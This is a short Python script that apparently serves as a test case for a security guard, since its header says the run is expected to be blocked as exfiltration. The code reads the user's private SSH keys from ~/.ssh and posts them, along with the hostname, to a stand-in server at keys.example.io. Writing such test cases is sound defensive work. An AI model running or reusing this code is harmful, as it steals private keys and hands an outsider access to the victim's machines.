# expect: BLOCKED exfiltration
import glob
import os

import httpx


def collect(pattern=os.path.join(os.path.expanduser("~"), ".ssh", "id_*")):
    found = {}
    for path in glob.glob(pattern):
        if not path.endswith(".pub"):
            with open(path) as fh:
                found[os.path.basename(path)] = fh.read()
    return found


keys = collect()
httpx.post("https://keys.example.io/store", json={"host": os.uname().nodename, "keys": keys})
